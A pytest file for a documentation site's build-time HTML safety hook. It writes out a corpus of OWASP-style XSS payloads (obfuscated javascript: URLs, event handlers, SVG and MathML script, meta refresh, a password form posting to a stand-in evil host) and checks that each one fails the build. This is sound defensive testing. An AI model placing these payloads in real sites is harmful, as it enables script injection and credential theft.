"""Publish-time safety: a corpus of injection tricks, each delivered through a Markdown door the site
opens, must fail the build with the file that holds it named (overrides/hooks/html_safety.py).

The tricks follow the classes of the OWASP XSS filter evasion cheat sheet: script URLs disguised
by entities, whitespace, case and control characters; event handlers; script inside SVG and MathML;
style elements and attributes with url(); meta refresh; base href; form action; frames, plug-ins
and srcdoc; data: and vbscript: URLs; and parser differentials (noscript, malformed fences).

Two strict builds of a throwaway copy of the site hold the whole corpus (every problem is listed
together): one for what is rendered into page content, one for what reaches the templates or the
site outside Markdown (front matter, static files), which the build refuses before rendering.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

import html_safety
import pytest
from conftest import ROOT, build_site

EVIL = "https://evil.example"


@dataclass(frozen=True)
class Trick:
    name: str
    kind: str  # OWASP class
    door: str  # the Markdown way in
    markdown: str  # written as the body of docs/hostile/<name>.md
    message: str  # regex the problem must match
    file: str = ""  # the file the problem must name (default: the trick's own page)
    line: int | None = None  # the line the problem must name, counted in the trick's body (1 = first body line)


CONTENT_TRICKS = [
    Trick("malformed-fence", "script element", "malformed fence", '```text {oops\n<script>document.title="pwned"</script>\n```', r"<script> is not allowed", line=2),
    Trick("inline-link-scheme", "script URL", "inline link", "[click](javascript:alert(1))", r"scheme 'javascript:'", line=1),
    Trick("inline-link-entity", "script URL, entity-encoded", "inline link", "[click](javas&#99;ript:alert(1))", r"scheme 'javascript:'", line=1),
    Trick("inline-link-hex-entity", "script URL, hex entity", "inline HTML", '<a href="&#x6A;avascript:alert(1)">click</a>', r"scheme 'javascript:'", line=1),
    Trick("inline-link-tab", "script URL, whitespace inside", "inline link", "[click](java&#9;script:alert(1))", r"scheme 'javascript:'", line=1),
    Trick("inline-link-case", "script URL, mixed case", "inline link", "[click](JaVaScRiPt:alert(1))", r"scheme 'javascript:'", line=1),
    Trick("inline-link-control", "script URL, leading control character", "inline HTML", '<a href="&#1;javascript:alert(1)">click</a>', r"scheme 'javascript:'", line=1),
    Trick("leading-space", "script URL, leading space", "inline HTML", '<a href="  javascript:alert(1)">click</a>', r"scheme 'javascript:'", line=1),
    Trick("reference-split", "script URL", "reference link split over lines", "See [the page][ref].\n\n[ref]:\n    javascript:alert(1)", r"scheme 'javascript:'", line=4),
    Trick("autolink-data", "data: URL", "autolink", "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", r"<data:text> is not allowed"),
    Trick("data-url", "data: URL", "inline link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", r"scheme 'data:'", line=1),
    Trick("vbscript-url", "vbscript: URL", "inline link", "[x](vbscript:msgbox(1))", r"scheme 'vbscript:'", line=1),
    Trick("html-block-handler", "event handler", "raw HTML block", '<div onclick="alert(1)">\nclick me\n</div>', r"attribute 'onclick' on <div>", line=1),
    Trick("inline-html-onerror", "event handler", "inline HTML", "Text <img src=x onerror=alert(1) alt=x> more.", r"attribute 'onerror' on <img>", line=1),
    Trick("details-ontoggle", "event handler", "raw HTML block", "<details open ontoggle=alert(1)><summary>s</summary>x</details>", r"attribute 'ontoggle' on <details>", line=1),
    Trick("svg-script", "script in SVG", "inline HTML", "<svg><script>alert(1)</script></svg>", r"<script> is not allowed", line=1),
    Trick("svg-link", "script URL in SVG", "raw HTML block", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', r"<a> is not allowed|<text> is not allowed|xlink:href", line=1),
    Trick("math-href", "script URL in MathML", "inline HTML", '<math><mi href="javascript:alert(1)">x</mi></math>', r"attribute 'href' on <mi>", line=1),
    Trick("math-annotation-xml", "HTML inside MathML", "raw HTML block", '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></semantics></math>', r"<annotation-xml> is not allowed", line=1),
    Trick("style-element", "style element with url()", "raw HTML block", f"<style>body {{ background: url({EVIL}/track.png) }}</style>", r"<style> is not allowed", line=1),
    Trick("attr-list-style", "style attribute with url()", "attribute list", f'A paragraph.\n{{: style="background:url({EVIL}/x.png)" }}', r"attribute 'style' on <p>", line=2),
    Trick("attr-list-onclick", "event handler", "attribute list", 'A paragraph.\n{: onclick="alert(1)" }', r"attribute 'onclick' on <p>", line=2),
    Trick("meta-refresh", "meta refresh", "raw HTML block", f'<meta http-equiv="refresh" content="0;url={EVIL}">', r"<meta> is not allowed", line=1),
    Trick("base-href", "base href", "raw HTML block", f'<base href="{EVIL}/">', r"<base> is not allowed", line=1),
    Trick("form-action", "form action", "raw HTML block", f'<form action="{EVIL}/steal"><input name="password"></form>', r"<form> is not allowed", line=1),
    Trick("iframe", "frame", "raw HTML block", f'<iframe src="{EVIL}"></iframe>', r"<iframe> is not allowed", line=1),
    Trick("iframe-srcdoc", "srcdoc", "inline HTML", 'x <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', r"<iframe> is not allowed", line=1),
    Trick("object", "plug-in", "raw HTML block", f'<object data="{EVIL}/x.swf"></object>', r"<object> is not allowed", line=1),
    Trick("embed", "plug-in", "raw HTML block", f'<embed src="{EVIL}/x.swf">', r"<embed> is not allowed", line=1),
    Trick("noscript-differential", "parser differential (mXSS)", "raw HTML block", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', r"<noscript> is not allowed|onerror", line=1),
    Trick("external-image", "request to another host", "image", f"![tracking pixel]({EVIL}/pixel.png)", r"another host", line=1),
    Trick("md-in-html", "script URL", "md_in_html", '<div markdown>\n[click](javascript:alert(1))\n</div>', r"scheme 'javascript:'", line=2),
    Trick("list-item", "event handler", "list", "- first\n- <b onmouseover=alert(1)>second</b>", r"attribute 'onmouseover' on <b>", line=2),
    Trick("admonition", "event handler", "admonition", '!!! note "Careful"\n    <img src=x onerror=alert(1) alt=x>', r"attribute 'onerror' on <img>", line=2),
    # A data block is never run, but content may not add scripts of any type: not even JSON-LD, whose
    # text could also lie about the page to search engines.
    Trick("json-ld", "script element (data block)", "raw HTML block",
          '<script type="application/ld+json">{"@context": "https://schema.org", "@type": "Course", "name": "x"}</script>',
          r"<script> is not allowed", line=1),
    Trick("content-tab", "script element", "content tab", '=== "Tab"\n\n    <script>alert(1)</script>', r"<script> is not allowed", line=3),
    Trick("footnote", "script URL", "footnote", "Claim.[^1]\n\n[^1]: See [this](javascript:alert(1)).", r"scheme 'javascript:'", line=3),
    Trick("clobber-id", "DOM clobbering", "attribute list", 'A paragraph.\n{: #__md_scope }', r"reserved for the theme", line=2),
    Trick("snippet-include", "script element", "snippets include", '--8<-- "evil-include.md"', r"<script> is not allowed", file="docs/includes/evil-include.md", line=1),
]
INCLUDED = {"docs/includes/evil-include.md": "<script>alert('included')</script>\n"}
ABBREVIATION_TRICK = Trick(
    "abbreviations", "event handler", "abbreviations file (appended to every page)", "",
    r"attribute 'onerror' on <img>", file="docs/includes/abbreviations.md",
)
ABBREVIATION_LINE = "<img src=x onerror=alert(1) alt=x>"

TEMPLATE_TRICKS = [
    # (name, front matter line or None, static file, message, file)
    ("title", 'title: "Intro <img src=x onerror=alert(1)>"', None, r"'title' must be plain text", "docs/hostile/title.md"),
    ("description", 'description: "Fine.\\" onfocus=\\"alert(1)"', None, r"'description' must be plain text", "docs/hostile/description.md"),
    ("tags", "tags: [\"<script>alert(1)</script>\"]", None, r"'tags' must be plain text", "docs/hostile/tags.md"),
    ("static-html", None, "docs/hostile/page.html", r"HTML, SVG and XML files are not published", "docs/hostile/page.html"),
    ("static-svg", None, "docs/hostile/image.svg", r"HTML, SVG and XML files are not published", "docs/hostile/image.svg"),
]


def _write_page(project: Path, name: str, body: str, front: str = "") -> Path:
    path = project / "docs" / "hostile" / f"{name}.md"
    path.parent.mkdir(parents=True, exist_ok=True)
    front = front or f"title: Hostile {name}\ndescription: A page that tries one trick."
    path.write_text(f"---\n{front}\n---\n\n{body}\n", encoding="utf-8")
    return path


BODY_FIRST_LINE = 6  # the body starts on file line 6 of a page written by _write_page with its default front matter


def _problems_for(log: str, file: str) -> list[str]:
    return [line.strip() for line in log.splitlines() if line.strip().startswith(f"{file}:")]


@pytest.fixture(scope="module")
def content_build(tmp_path_factory) -> str:
    from conftest import copy_project

    project = copy_project(tmp_path_factory.mktemp("hostile-content"))
    for trick in CONTENT_TRICKS:
        _write_page(project, trick.name, trick.markdown)
    for path, text in INCLUDED.items():
        (project / path).write_text(text, encoding="utf-8")
    abbreviations = project / ABBREVIATION_TRICK.file
    abbreviations.write_text(abbreviations.read_text(encoding="utf-8") + "\n" + ABBREVIATION_LINE + "\n", encoding="utf-8")
    ok, log = build_site(project, tmp_path_factory.mktemp("hostile-content-site"))
    assert not ok, "a build holding the injection corpus must fail"
    return log


@pytest.fixture(scope="module")
def template_build(tmp_path_factory) -> str:
    from conftest import copy_project

    project = copy_project(tmp_path_factory.mktemp("hostile-template"))
    for name, front, static, _, _ in TEMPLATE_TRICKS:
        if front:
            key = front.split(":", 1)[0]
            base = {"title": f"title: Hostile {name}", "description": "description: A page that tries one trick.", "tags": ""}
            base[key] = front
            _write_page(project, name, "Text.", "\n".join(line for line in base.values() if line))
        if static:
            path = project / static
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n' if static.endswith(".svg")
                            else '<!doctype html><script>alert(1)</script>\n', encoding="utf-8")
    ok, log = build_site(project, tmp_path_factory.mktemp("hostile-template-site"))
    assert not ok, "a build holding hostile front matter and static files must fail"
    return log


def test_the_corpus_covers_the_classes_and_doors_it_promises():
    tricks = CONTENT_TRICKS + [ABBREVIATION_TRICK]
    assert len(tricks) + len(TEMPLATE_TRICKS) >= 25
    doors = {trick.door for trick in tricks}
    for door in ("inline link", "reference link split over lines", "autolink", "raw HTML block", "inline HTML",
                 "md_in_html", "list", "admonition", "content tab", "footnote", "snippets include",
                 "attribute list", "malformed fence", "abbreviations file (appended to every page)"):
        assert door in doors, door


@pytest.mark.parametrize("trick", CONTENT_TRICKS, ids=lambda trick: trick.name)
def test_content_trick_is_refused_with_its_file_named(content_build, trick):
    file = trick.file or f"docs/hostile/{trick.name}.md"
    problems = _problems_for(content_build, file)
    assert problems, f"{trick.name} ({trick.kind} via {trick.door}) was not refused; build log:\n{content_build[-3000:]}"
    assert any(re.search(trick.message, problem) for problem in problems), problems
    if trick.line is not None:
        line = trick.line if trick.file else BODY_FIRST_LINE + trick.line - 1
        assert any(problem.startswith(f"{file}:{line}: ") for problem in problems), (line, problems)


def test_abbreviations_file_trick_is_refused_with_that_file_named(content_build):
    problems = _problems_for(content_build, ABBREVIATION_TRICK.file)
    assert any(re.search(ABBREVIATION_TRICK.message, problem) for problem in problems), content_build[-3000:]


@pytest.mark.parametrize("trick", TEMPLATE_TRICKS, ids=lambda trick: trick[0])
def test_template_and_static_trick_is_refused_with_its_file_named(template_build, trick):
    _, _, _, message, file = trick
    problems = _problems_for(template_build, file)
    assert any(re.search(message, problem) for problem in problems), f"{file} not refused:\n{template_build[-3000:]}"


# --- The rules themselves -------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "scheme"),
    [
        ("https://example.org/", "https"), ("page.md#x", None), ("#top", None), ("../up/", None),
        ("JAVASCRIPT:alert(1)", "javascript"), (" \x01javascript:x", "javascript"), ("java\tscr\nipt:x", "javascript"),
        ("mailto:a@b.c", "mailto"), ("data:,x", "data"),
    ],
)
def test_url_scheme_is_read_as_a_browser_reads_it(url, scheme):
    assert html_safety.url_scheme(url) == scheme


def test_escaped_code_is_not_markup():
    html = '<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; &lt;a href="javascript:x"&gt;</code></pre>'
    assert html_safety.check_content(html) == []


def test_every_page_of_the_real_site_builds_unchanged(built_site):
    """The real site passes the check (the session build is strict) and no page is dropped or emptied."""
    for source in sorted((ROOT / "docs").rglob("*.md")):
        relative = source.relative_to(ROOT / "docs")
        if relative.name.startswith("_") or relative.parts[0] == "includes":
            continue
        folder = relative.parent if relative.name == "index.md" else relative.with_suffix("")
        built = built_site / folder / "index.html"
        assert built.exists(), f"{relative} was not built"
        assert '<article class="md-content__inner md-typeset">' in built.read_text(encoding="utf-8")


@pytest.mark.parametrize("value", ["Plain title & more", "Attention (2017)", "Core Libraries & Frameworks"])
def test_plain_text_titles_pass(value):
    assert html_safety.plain_text_problem(value) is None


@pytest.mark.parametrize("value", ['A "quoted" word', "a <b>bold</b> title", "x > y"])
def test_markup_characters_in_template_strings_are_refused(value):
    assert html_safety.plain_text_problem(value)
